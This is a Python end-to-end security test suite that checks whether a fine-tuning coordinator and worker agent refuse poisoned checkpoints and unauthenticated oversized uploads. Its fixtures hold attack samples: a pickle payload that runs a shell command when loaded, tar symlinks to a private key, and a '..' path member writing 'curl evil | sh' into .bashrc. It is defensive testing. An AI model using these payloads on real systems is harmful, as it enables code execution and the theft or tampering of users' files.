"""A malicious worker against a real coordinator, and a real victim agent opening what it left: checkpoints
holding pickles, links and `..` members, a step of 10^9 and random bytes are refused at the door (422, not
stored, not billed); one that got past the door anyway is refused by the victim, which is not blamed, while
its uploader is; no code runs and no host file is touched."""

from __future__ import annotations

import io
import json
import os
import pickle
import tarfile
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import httpx
import pytest
from sqlalchemy import create_engine, text

from tests.e2e.conftest import LiveServer
from tests.e2e.test_agent import registered_agent, run_until_done, submit, worker_settings
from tests.fakes import FakeAgent, checkpoint_state, sha256, tar_gz
from tests.security.conftest import assert_sandboxed, database, direct_key, docker_runtime, storage, watch_sandbox

pytestmark = pytest.mark.live
MARKER = Path("/tmp/tunegrid-security-pwned")


class Payload:
    """Unpickling this runs a shell command: what `torch.load(weights_only=False)` of a stranger's file allows."""

    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (os.system, (f"touch {MARKER}",))


def _link(name: str, target: str) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = tarfile.SYMTYPE, target
    return info


def _attacks(agent: FakeAgent, lease_id: str, step: int, secret: Path) -> dict[str, tuple[bytes, int]]:
    """name -> (archive, the step the upload claims)"""
    members = agent.checkpoint_members_for(lease_id, step)
    folder = tarfile.TarInfo("resume")
    folder.type = tarfile.DIRTYPE
    linked = tar_gz([folder, *[(f"resume/{n}", b) for n, b in members.items() if n != "state.json"],
                     _link("resume/state.json", str(secret))])
    return {
        "a pickle payload as its state": (agent.checkpoint_for(lease_id, step, **{"state.json": pickle.dumps(Payload())}), step),
        "a pickle beside its files": (agent.checkpoint_for(lease_id, step, extra=[("resume/state.pt", pickle.dumps(Payload()))]), step),
        "a link to a host file": (linked, step),
        "a .. member": (agent.checkpoint_for(lease_id, step, extra=[("resume/../../../.bashrc", b"curl evil | sh\n")]), step),
        "a step of 10^9": (agent.checkpoint_for(lease_id, step, **{"state.json": json.dumps(checkpoint_state(
            10**9, lr=agent.assignments[lease_id]["spec"]["hyperparameters"]["learning_rate"],
            seed=agent.assignments[lease_id]["spec"]["seed"])).encode()}), 10**9),
        "random bytes": (os.urandom(64 * 1024), step),
    }


def _worker(http: httpx.Client, provider: str, worker_id: str) -> dict:  # type: ignore[type-arg]
    return http.get(f"/v1/workers/{worker_id}", headers={"Authorization": f"Bearer {provider}"}).json()


def _charged(server: LiveServer, lease_id: str) -> int:
    engine = create_engine(database(server))
    with engine.connect() as conn:
        charged = conn.execute(text("SELECT coalesce(sum(charge_micros), 0) FROM usage_records WHERE lease_id = :l"),
                               {"l": lease_id}).scalar()
    engine.dispose()
    return int(charged or 0)


def _stored_checkpoints(server: LiveServer) -> list[Path]:
    folder = storage(server) / "checkpoints"
    return [p for p in folder.iterdir() if p.is_file()] if folder.exists() else []


@contextmanager
def placed_on_a_fake_worker(coordinator: LiveServer, machine: str) -> Iterator[tuple]:  # type: ignore[type-arg]
    """A new customer's small job placed on a new provider's protocol-level worker: (worker-side client,
    customer client, provider key, the fake agent, the job, its assignment)."""
    customer, provider = direct_key(coordinator, "customer", f"customer-of-{machine}"), direct_key(coordinator, "provider", machine)
    with httpx.Client(base_url=coordinator.url, timeout=30) as http, \
            httpx.Client(base_url=coordinator.url, headers={"Authorization": f"Bearer {customer}"}, timeout=30) as client:
        fake = FakeAgent.register(http, provider, machine_id=machine)
        job = submit(client, examples=24, hyperparameters={"n_epochs": 2, "batch_size": 2})
        assignment = fake.claim(wait_s=5)
        assert assignment is not None and assignment["job_id"] == job["id"]
        yield http, client, provider, fake, job, assignment


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "owner-home" / "id_ed25519"
    path.parent.mkdir()
    path.write_text("the PC owner's private key")
    return path


def test_malicious_checkpoints_are_refused_at_the_door_and_never_billed(coordinator: LiveServer, secret: Path) -> None:
    with placed_on_a_fake_worker(coordinator, "mallory-pc") as (http, client, provider, mallory, job, a):
        assert mallory.progress(a["lease_id"], step=4).status_code == 200
        for name, (archive, step) in _attacks(mallory, a["lease_id"], 4, secret).items():
            refused = mallory.upload(a["lease_id"], "checkpoint", archive, step=step)
            assert refused.status_code == 422, (name, refused.text)
            assert refused.json()["error"]["code"] == "checkpoint_rejected", name
        assert _stored_checkpoints(coordinator) == []
        assert client.get(f"/v1/fine_tuning/jobs/{job['id']}/checkpoints").json()["data"] == []
        assert _worker(http, provider, mallory.worker_id)["failed_checks"] == 6
        assert mallory.fail(a["lease_id"]).status_code == 200  # and it walks away
        assert _charged(coordinator, a["lease_id"]) == 0  # junk is never billed

        # The next worker is handed nothing of Mallory's: there is nothing stored to resume from. (What a victim does
        # with a bad checkpoint that did get stored is the next test, with the real agent and trainer.)
        # Another provider's: a new machine of Mallory's would start from her record and have its work verified.
        victim = FakeAgent.register(http, direct_key(coordinator, "provider", "victim"), machine_id="victim-pc")
        b = victim.claim(wait_s=5)
        assert b is not None and b["job_id"] == job["id"] and b["resume_from"] is None
        assert victim.finish(b["lease_id"]).json()["job_status"] == "succeeded"
    assert not MARKER.exists() and secret.read_text() == "the PC owner's private key"


def test_a_checkpoint_past_the_door_is_refused_by_the_victim_who_is_not_blamed(
    coordinator: LiveServer, tmp_path: Path, tiny_model: Path, monkeypatch: pytest.MonkeyPatch, secret: Path,
    trainer_image: str,
) -> None:
    """As if the door had a hole (a bug, a tampered disk): the stored checkpoint of a job is swapped for a
    poisoned one with a matching sha256. The victim's agent (training in the real trainer image, built offline
    here on a debootstrap base, through the Docker runtime's sandbox) checks it as it unpacks, runs nothing of it,
    reports it; the coordinator's own check agrees, quarantines it, blames the uploader; the job then trains from
    scratch in the sandbox. (The agent's refusal alone: tests/worker/test_agent.py; the trainer's: tests/trainer/test_resume.py.)"""
    with placed_on_a_fake_worker(coordinator, "uploader-pc") as (http, client, provider, uploader, job, a):
        assert uploader.save_checkpoint(a["lease_id"], 2).status_code == 200
        [checkpoint] = client.get(f"/v1/fine_tuning/jobs/{job['id']}/checkpoints").json()["data"]
        poisoned = uploader.checkpoint_for(a["lease_id"], 2, extra=[
            ("resume/state.pt", pickle.dumps(Payload())), _link("resume/id_ed25519", str(secret))])
        (storage(coordinator) / "checkpoints" / checkpoint["id"]).write_bytes(poisoned)
        engine = create_engine(database(coordinator))
        with engine.begin() as conn:
            conn.execute(text("UPDATE job_checkpoints SET blob_sha256 = :s, blob_bytes = :b WHERE id = :i"),
                         {"s": sha256(poisoned), "b": len(poisoned), "i": checkpoint["id"]})
        engine.dispose()
        assert uploader.fail(a["lease_id"]).status_code == 200

        settings = worker_settings(tmp_path / "victim", tiny_model)
        # Another provider's machine: one of the uploader's provider would start from its record (a loss) and
        # have its work verified by a third provider, which this test does not run.
        victim_provider = direct_key(coordinator, "provider", "victim")
        victim = registered_agent(coordinator, settings, monkeypatch, provider_key=victim_provider)
        victim.runtime = docker_runtime(trainer_image)
        sandbox = watch_sandbox(victim.runtime)
        done = run_until_done(victim, client, job["id"])
        assert done["status"] == "succeeded", done  # from scratch, after the bad checkpoint was refused
        with tarfile.open(fileobj=io.BytesIO(client.get(f"/v1/files/{done['result_files'][0]}/content").content),
                          mode="r:gz") as tar:
            assert "adapter/adapter_model.safetensors" in tar.getnames()  # a real job, trained in the real image
        assert_sandboxed(sandbox)
        events = [e["message"] for e in client.get(f"/v1/fine_tuning/jobs/{job['id']}/events?limit=500").json()["data"]]
        assert any("failed its checks" in m and "quarantined" in m for m in events), events
        [victim_worker] = http.get("/v1/workers", headers={"Authorization": f"Bearer {victim_provider}"}).json()["data"]
        innocent = _worker(http, victim_provider, victim_worker["id"])
        assert (innocent["failed_checks"], innocent["lost_leases"]) == (0, 0)
        assert _worker(http, provider, uploader.worker_id)["failed_checks"] == 1
    assert not MARKER.exists() and secret.read_text() == "the PC owner's private key"


def test_an_upload_without_a_valid_key_is_refused_before_its_body_is_read(coordinator: LiveServer) -> None:
    """Headers promising a 100 MB multipart body, and no body: the answer comes at once, not after a spool."""
    host, port = coordinator.url.removeprefix("http://").split(":")
    for authorization in (b"", b"Authorization: Bearer tg_nope_nope\r\n"):
        import socket  # noqa: PLC0415

        with socket.create_connection((host, int(port)), timeout=5) as conn:
            conn.sendall(b"POST /v1/files HTTP/1.1\r\nHost: x\r\n" + authorization
                         + b"Content-Type: multipart/form-data; boundary=b\r\nContent-Length: 100000000\r\n\r\n--b\r\n")
            began = time.monotonic()
            reply = io.BytesIO()
            while b"\r\n\r\n" not in reply.getvalue():
                chunk = conn.recv(4096)
                if not chunk:
                    break
                reply.write(chunk)
            assert reply.getvalue().startswith(b"HTTP/1.1 401"), reply.getvalue()[:200]
            assert time.monotonic() - began < 3
